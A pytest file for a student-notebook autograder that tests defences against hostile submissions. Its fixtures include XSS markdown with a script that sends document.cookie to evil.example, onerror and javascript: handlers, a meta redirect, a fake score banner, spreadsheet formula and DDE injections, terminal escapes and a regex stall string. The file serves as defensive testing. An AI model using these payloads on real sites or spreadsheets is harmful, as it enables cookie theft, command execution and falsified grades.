"""Issue 32: everything a student writes is untrusted.

Each failure of the attack report first, as it was found, then the hostile class that holds all of them:
1. script in the feedback (a markdown cell with <script>, <img onerror>, <style> hiding errors; a code cell
   displaying HTML that imitates the grader's score) — the page runs nothing and shows the real score, in
   Chromium too;
2. a lone surrogate in the `model:` line — every report is still written;
3. `model: x` + 250 000 spaces + `y` — read in milliseconds, not 348 s of regex backtracking;
4. quiz 6 answered as a lambda, behind a decorator without functools.wraps, as functools.partial or as a
   callable object — graded through the variable the quiz names (here in the kernel-side code, and as
   cases of the quiz_search class in test_autograder_quizzes.py);
5. `model:` lines with a spreadsheet formula or terminal escapes — a text cell in the CSV, escaped on the
   console and in the summary.
"""
import csv
import functools
import io
import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograder import collect, feedback, modelcheck, report, untrusted, values, verdict
from autograder.course import Course, Settings
from autograder.grade import grade_class
from autograder.samples import released

import autograder_cases as cases

try:
    from autograder.grade import check_sandbox

    check_sandbox()
    SANDBOX = True
except Exception:
    SANDBOX = False

MODEL = "course-model sha256:0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/?"&E2,"click for your grade")'
ESCAPES = "\x1b[2J\x1b[H\x1b[32mALL 312 SUBMISSIONS GRADED OK\x1b[0m\x07"
STALL = "x" + " " * 250_000 + "y"


def with_model_line(nb, text):
    """``nb`` as if the student had run it and its setup cell printed ``text`` (a JSON-ready dict)."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    setup = next(c for c in nb.cells if c.cell_type == "code")
    setup.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    return nb


def write_raw(nb, path):
    """Written as json.dumps does (ASCII, so a lone surrogate is the text ``\\ud800``, as the attacker's file)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb))
    return path


# ---- 2. a lone surrogate --------------------------------------------------------------------------------
def test_the_reader_returns_valid_unicode_and_names_the_cell(tmp_path):
    path = write_raw(with_model_line(cases.tiny_notebook(), "model: x\ud800\n"), tmp_path / "a.ipynb")
    assert "\\ud800" in path.read_text()
    notes = []
    nb, problem = collect.read_notebook(path, notes)
    assert problem == ""
    json.dumps(nb, ensure_ascii=False).encode("utf-8")  # raised UnicodeEncodeError before
    assert any(n.startswith("cell 2 ('setup'), a code cell, held text that is not valid Unicode") for n in notes)
    assert modelcheck.printed_model(path) == "x\ufffd"


def _results(tmp_path, answered):
    """A class of one row per label in ``answered``, graded under MODEL (modelcheck.annotate on real files)."""
    results = []
    for number, text in enumerate(answered):
        student = f"s{number}"
        for root, line in (("submitted", text), ("autograded", f"model: {MODEL}\n")):
            write_raw(with_model_line(cases.tiny_notebook(), line), tmp_path / root / student / "tiny" / "tiny.ipynb")
        results.append({"student": student, "name": student, "assignment": "tiny", "status": "graded",
                        "grades": [{"grade_id": "q1_test", "notebook": "tiny", "auto_score": 2.0, "max_score": 2.0}]})
    return modelcheck.annotate(results, tmp_path / "submitted", tmp_path / "autograded")


def test_a_lone_surrogate_in_the_model_line_leaves_a_csv_and_summary_that_utf8_can_write(tmp_path):
    results = _results(tmp_path, [f"model: {MODEL}\n", "model: evil\ud800\n"])
    text = report.csv_text(results, r"q(\d+)", {})
    text.encode("utf-8")  # was: 'utf-8' codec can't encode '\ud800', and a 0-byte CSV
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["answered_model"] for r in rows] == [MODEL, "evil\ufffd"]
    report.summary_table(results, r"q(\d+)").encode("utf-8")


# ---- 3. the stall ----------------------------------------------------------------------------------------
def test_the_model_line_is_read_in_linear_time_and_kept_short(tmp_path):
    # 50 000 spaces took the old regular expression about 14 s (quadratic: 348 s for 250 000)
    for spaces in (50_000, 250_000, 5_000_000):
        path = write_raw(with_model_line(cases.tiny_notebook(), f"model: x{' ' * spaces}y\n"), tmp_path / "s.ipynb")
        start = time.process_time()
        label = modelcheck.printed_model(path)
        assert time.process_time() - start < 2, spaces
        assert label.startswith("x ") and label.endswith("…") and len(label) == untrusted.MAX_LABEL
    assert modelcheck.parse_line(f"model: {MODEL}  \r") == MODEL
    assert modelcheck.parts(MODEL) == ("course-model", "0123456789abcdef")
    assert modelcheck.parts("openai/clip-vit-base-patch32") == ("openai/clip-vit-base-patch32", "")
    assert modelcheck.parts("x sha256:NOTHEX12") == ("x sha256:NOTHEX12", "")


# ---- every per-submission step of the main process is bounded ------------------------------------------
def _many(path, cells, outputs_per_cell=0):
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": "", "execution_count": None,
         "outputs": [{"output_type": "stream", "name": "stdout", "text": "x"}] * outputs_per_cell}
        for i in range(cells)]}
    path.write_text(json.dumps(nb))
    return path


def test_a_notebook_of_too_many_cells_is_refused_at_once_and_extra_outputs_left_out(tmp_path):
    # 200 000 empty cells (21 MB) took 40 s for each of the grader's reads (CPU time: the machine may be busy)
    path = _many(tmp_path / "cells.ipynb", 200_000)
    start = time.process_time()
    nb, problem = collect.read_notebook(path)
    assert nb is None and "has 200000 cells, more than the 1000" in problem and time.process_time() - start < 5
    notes = []
    nb, problem = collect.read_notebook(_many(tmp_path / "outputs.ipynb", 10, 600), notes)
    assert problem == "" and sum(len(c.outputs) for c in nb.cells) == collect.MAX_OUTPUTS
    assert notes == ["the notebook held 6000 outputs: the 1000 past the first 5000 were left out (outputs are not "
                     "graded: the notebook runs again)"]


def test_a_jobs_result_is_read_with_a_cap_and_its_text_cut(tmp_path):
    from autograder import grade

    path = tmp_path / "result.json"
    path.write_text(json.dumps({"student": "s", "reason": "r" * 10 ** 6, "notes": ["n" * 5000] * 1000}))
    result = grade._read_result(path)
    assert len(result["reason"]) == grade.MAX_TEXT and len(result["notes"]) == grade.MAX_LINES + 1
    assert all(len(n) <= grade.MAX_TEXT for n in result["notes"]) and "800 more notes" in result["notes"][-1]
    path.write_bytes(b" " * (grade.MAX_RESULT_MB * 2 ** 20 + 1))
    with pytest.raises(ValueError, match="over 16 MB"):
        grade._read_result(path)


# ---- 5. formulas and escapes ---------------------------------------------------------------------------
@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("-", "-"), ("3", "3"), ("ann", "ann"),
    ("a\ud800", "a\ufffd"), (FORMULA, "'" + FORMULA)])
def test_a_csv_cell_never_starts_a_formula(text, cell):
    assert untrusted.csv_cell(text) == cell


def test_formula_and_escapes_in_the_model_line_are_text_in_the_csv_and_escaped_in_the_summary(tmp_path):
    results = _results(tmp_path, [f"model: {FORMULA}\n", f"model: {ESCAPES}\n"])
    rows = list(csv.DictReader(io.StringIO(report.csv_text(results, r"q(\d+)", {}))))
    assert rows[0]["answered_model"] == "'" + FORMULA and rows[0]["model_differs"] == "yes"
    summary = report.summary_table(results, r"q(\d+)")
    assert "MODEL MISMATCH: 2 of 2" in summary
    assert "\x1b" not in summary and "\x07" not in summary
    assert "\\x1b[2J\\x1b[H\\x1b[32mALL 312 SUBMISSIONS GRADED OK\\x1b[0m\\x07" in summary


# ---- 4. honest answers in any valid form ---------------------------------------------------------------
def _top1(text_embedding, image_embeddings, image_filenames):
    return image_filenames[0]


def _no_wraps(function):
    def wrapper(*args):
        return function(*args)
    return wrapper


class _Callable:
    def __call__(self, text_embedding, image_embeddings, image_filenames):
        return image_filenames[0]


FORMS = {"lambda": lambda text_embedding, image_embeddings, image_filenames: image_filenames[0],
         "decorated": _no_wraps(_top1), "partial": functools.partial(_top1), "callable object": _Callable()}


@pytest.mark.parametrize("form", sorted(FORMS))
def test_a_function_is_called_through_the_variable_the_quiz_names(form, monkeypatch):
    """values.dump names the function by its variable (was: its __name__, ``<lambda>`` or ``wrapper``, which
    the kernel then could not find: 7/10 and "top1_filename raised Error:"); values.call accepts any callable."""
    namespace = {"top1_filename": FORMS[form]}
    monkeypatch.setattr(values, "_namespace", lambda: namespace)
    dumped = json.loads(values.dump(["top1_filename"]))
    assert dumped == {"top1_filename": {"t": "function", "name": "top1_filename"}}
    sent = []

    def call_kernel(name, payload):
        sent.append(name)
        return json.loads(values.call(name, payload))

    remote = verdict.Decoder(call_kernel=call_kernel).value(dumped["top1_filename"])
    assert remote([[1.0]], [[1.0], [0.0]], ["a.png", "b.png"]) == "a.png" and sent == ["top1_filename"]


# ---- 1. the feedback page ------------------------------------------------------------------------------
# Each script would write PWNED (built from two halves, so the page's escaped copy of the code never holds it).
HOSTILE_MARKDOWN = """# My notes
<script>document.title = "PW" + "NED"; fetch("http://evil.example/steal?c=" + document.cookie)</script>
<img src="x" onerror="document.title='PW'+'NED'">
<style>.output_error, .output_stderr { display: none !important } h4 { visibility: hidden }</style>
<a href="javascript:document.title='PW'+'NED'">see</a> <b style="color:green" class="alert alert-success">bold</b>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
"""
FAKE_BANNER = ('<div class="panel-heading" style="position:fixed;top:0;left:0;width:100%;background:#5cb85c;'
               'z-index:9999"><h4>tiny (Score: 6.0 / 6.0)</h4></div>'
               '<script>document.body.append("PW" + "NED"); fetch("http://evil.example/")</script>')
HOSTILE_CODE = (f"from IPython.display import HTML, SVG, Javascript, display\n"
                f"display(HTML({FAKE_BANNER!r}))\n"
                "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\"/>'))\n"
                "display(Javascript('document.title = \"PW\" + \"NED\"'))")


def hostile_page(blank):
    nb = nbformat.from_dict(json.loads(json.dumps(blank)))
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN))
    nb.cells.insert(2, nbformat.v4.new_code_cell(HOSTILE_CODE))
    return nb


class _Markup(HTMLParser):
    """Every element of a page as (tag, attributes, inside <body>): the markup, not the escaped text (the
    student's code is shown, as text, with its <script> in it)."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.elements, self.in_body = [], False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.in_body = self.in_body or tag == "body"
        self.elements.append((tag, {k: (v or "") for k, v in attrs}, self.in_body))


def assert_inert(page):
    """Nothing in a feedback page can run, load or restyle what the grader shows."""
    assert page.count('http-equiv="Content-Security-Policy"') == 1 and "script-src 'none'" in page
    lower = page.lower()
    assert lower.index("content-security-policy") < lower.index("<title")
    for tag, attrs, in_body in _Markup(page).elements:
        assert tag not in ("script", "iframe", "object", "embed", "form", "base", "svg", "link"), tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not any(value.strip().lower().startswith(("javascript:", "http:", "https:", "data:text"))
                       for name, value in attrs.items() if name in ("href", "src", "action")), (tag, attrs)
        if in_body:  # the student's part of the page: no CSS of theirs, no meta refresh
            assert tag not in ("style", "meta") and "style" not in attrs, (tag, attrs)
            assert "alert-success" not in attrs.get("class", ""), (tag, attrs)


def test_sanitise_and_harden_leave_nothing_that_runs():
    assert_inert(feedback.harden("<html><head><title>t</title><script>x</script></head><body>"
                                 + feedback.sanitise(HOSTILE_MARKDOWN + FAKE_BANNER) + "</body></html>"))
    assert feedback.sanitise('<img src="data:image/png;base64,iVBO">') == '<img src="data:image/png;base64,iVBO">'
    assert "data:" not in feedback.sanitise('<a href="data:text/html,<script>x</script>">x</a>')


# ---- the hostile class -----------------------------------------------------------------------------------
def _model_course(root):
    """The tiny course, its setup cell printing a model line as the quizzes' does."""
    course_root = cases.tiny_course(root / "course")
    path = course_root / "source" / cases.TINY / f"{cases.TINY}.ipynb"
    nb = nbformat.read(path, as_version=4)
    setup = next(c for c in nb.cells if c.cell_type == "code")
    setup.source += f'\nprint("model: {MODEL}")'
    nbformat.write(nb, path)
    return Course(course_root)


STUDENTS = {  # name -> (how the notebook is made from (solution, blank), its score out of 6)
    "honest": (lambda s, b: with_model_line(s, f"model: {MODEL}\n"), 6),
    "=1+1 honest too": (lambda s, b: s, 6),
    "surrogate": (lambda s, b: with_model_line(s, "model: evil\ud800\n"), 6),
    "stall": (lambda s, b: with_model_line(s, f"model: {STALL}\n"), 6),
    "formula": (lambda s, b: with_model_line(s, f"model: {FORMULA}\n"), 6),
    "escapes": (lambda s, b: with_model_line(s, f"model: {ESCAPES}\n"), 6),
    "script": (lambda s, b: hostile_page(b), 0),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    course = _model_course(root)
    solution = nbformat.read(course.source / cases.TINY / f"{cases.TINY}.ipynb", as_version=4)
    blank = released(course, cases.TINY)[cases.TINY]
    for name, (make, _) in STUDENTS.items():
        write_raw(make(solution, blank), root / "submitted-here" / name / cases.TINY / f"{cases.TINY}.ipynb")
    lines = []
    start = time.monotonic()
    run = grade_class(root / "submitted-here", course.root, log=lines.append,
                      settings=Settings(jobs=2, sandbox=SANDBOX, cell_timeout=8, notebook_timeout=120, memory_mb=1500,
                                        preload=("numpy",)))
    return course, run, lines, time.monotonic() - start


def test_a_hostile_class_grades_in_seconds_with_every_report_written(hostile):
    course, run, lines, seconds = hostile
    assert seconds < 240, seconds  # the stall alone took 348 s; seven tiny notebooks take well under a minute
    scores = {r["name"]: (r["status"], sum(g["auto_score"] or 0 for g in r["grades"])) for r in run.results}
    assert scores == {name: ("graded", score) for name, (_, score) in STUDENTS.items()}
    paths = run.outputs[cases.TINY]
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text(encoding="utf-8"))))
    assert len(rows) == len(STUDENTS) and paths["summary"].stat().st_size > 0
    for row in rows:
        for value in row.values():
            assert not value.startswith(untrusted.FORMULA_START) or value == "-" or re.fullmatch(r"-?[\d.]+", value)
    by_name = {r["student"]: r for r in rows}
    assert by_name["'=1+1 honest too"]["score"] == "6"
    assert by_name["formula"]["answered_model"] == "'" + FORMULA
    assert by_name["surrogate"]["answered_model"] == "evil\ufffd"
    assert by_name["stall"]["answered_model"].endswith("…") and by_name["honest"]["model_differs"] == "no"
    summary = paths["summary"].read_text(encoding="utf-8")
    console = "\n".join(lines)
    for text in (summary, console):
        assert "MODEL MISMATCH: 4 of 7" in text
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)
        assert "\\x1b[2J" in text


def test_no_feedback_page_holds_a_live_script_and_the_real_score_heads_it(hostile):
    course, run, _, _ = hostile
    for result in run.results:
        page = Path(result["feedback"][0]).read_text(encoding="utf-8") if result.get("feedback") else None
        page = page or (course.root / "feedback" / result["student"] / cases.TINY / "tiny.html").read_text(
            encoding="utf-8")
        assert_inert(page)
    page = (course.root / "feedback" / "script" / cases.TINY / "tiny.html").read_text(encoding="utf-8")
    heading = page.index("tiny (Score: 0.0 / 6.0)")
    assert "Score: 6.0 / 6.0" not in page[:heading]
    assert "My notes" in page and "bold" in page  # the student's text is still shown, as inert HTML


def test_in_chromium_the_hostile_feedback_runs_nothing_and_shows_the_real_score(hostile):
    from browserlab import CHROMIUM_FLAGS, chromium_path, missing_reason, screenshot

    if missing_reason():
        pytest.skip(missing_reason())
    from playwright.sync_api import sync_playwright

    course, _, _, _ = hostile
    page_path = course.root / "feedback" / "script" / cases.TINY / "tiny.html"
    requests, console = [], []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), headless=True, args=CHROMIUM_FLAGS)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda message: console.append(message.text))
            page.route(re.compile(r"^(?!file:|data:).*"), lambda route: route.abort())
            page.goto(page_path.as_uri())
            page.wait_for_timeout(1000)
            screenshot(page, "feedback-of-a-hostile-notebook")  # build/browser/, for a person to look at
            assert page.title() == "tiny"
            text = page.inner_text("body")
            assert "PWNED" not in text and "PWNED" not in page.content()  # no script ran
            assert page.evaluate("document.scripts.length") == 0
            real = page.get_by_text("tiny (Score: 0.0 / 6.0)")
            assert real.is_visible() and real.bounding_box()["y"] < 200
            assert text.index("Score: 0.0 / 6.0") < text.find("Score: 6.0 / 6.0") or "Score: 6.0 / 6.0" not in text
            errors = page.locator(".output_error")
            assert errors.count() >= 3 and all(errors.nth(i).is_visible() for i in range(errors.count()))
            fixed = page.evaluate("[...document.querySelectorAll('body *')]"
                                  ".filter(e => getComputedStyle(e).position === 'fixed').length")
            assert fixed == 0
        finally:
            browser.close()
    outside = [url for url in requests if not url.startswith(("file:", "data:"))]
    assert outside == [], outside  # no fetch, no outside picture, no refresh
    # a blocked picture or font is reported too; a script that tried to run or connect would be as well
    assert not [m for m in console if re.search(r"(?i)execut|the script|connect|eval", m)], console
